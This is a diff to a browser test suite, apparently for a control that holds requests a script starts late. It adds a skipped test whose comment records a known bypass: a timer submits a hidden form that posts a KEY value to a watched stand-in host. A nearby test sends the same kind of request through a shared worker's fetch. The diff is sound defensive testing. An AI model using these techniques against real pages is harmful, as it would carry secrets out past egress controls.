@@ -136,6 +136,21 @@ describe('what a script starts after it returned stays held', () => {
     expect(heldLater(await run('1'))).toEqual(['GET W/popup-late?key=[redacted 34 chars] (navigation)']);
   });
 
+  // Still escapes, in both backends: a form the script submits (into a new window or its own frame) or a link it
+  // clicks names no initiator stack (measured on Chromium 156: initiator {type: 'other'}), and the eval's user
+  // activation lasts 5 s, so neither the stack nor the gesture tells it from the person's own submit. Unskip to see it.
+  it.skip('a form a timer submits into a new window', async () => {
+    await run(`setTimeout(() => { const form = document.createElement('form');
+      form.target = '_blank'; form.method = 'post'; form.action = '${watched.origin}/form-late';
+      form.append(Object.assign(document.createElement('input'), { name: 'key', value: ${KEY} }));
+      document.body.append(form); form.submit(); window.submitted = true; }, 1000); 0`);
+    await until('submitted');
+    const deadline = Date.now() + 5_000;
+    while (!watched.requests.includes('/form-late') && Date.now() < deadline)
+      await new Promise((resolve) => setTimeout(resolve, 100));
+    expect(await reached()).toEqual([]);
+  });
+
   it('a shared worker a timer starts from a blob, which no session of the tab reaches', async () => {
     const worker = `onconnect = (event) => { const port = event.ports[0];
       fetch('${watched.origin}/shared-late').catch(() => undefined).then(() => port.postMessage(0)); };`;
